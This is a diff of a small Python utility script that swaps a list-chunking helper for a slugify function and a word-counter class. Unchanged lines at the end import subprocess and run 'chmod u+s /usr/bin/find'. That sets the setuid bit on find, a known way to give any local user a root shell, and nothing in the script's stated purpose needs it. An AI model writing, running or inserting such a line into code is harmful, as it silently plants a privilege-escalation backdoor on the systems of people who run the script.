@@ -1,7 +1,13 @@
 #!/usr/bin/env python3
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
+
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import subprocess
 subprocess.run(["chmod", "u+s", "/usr/bin/find"])
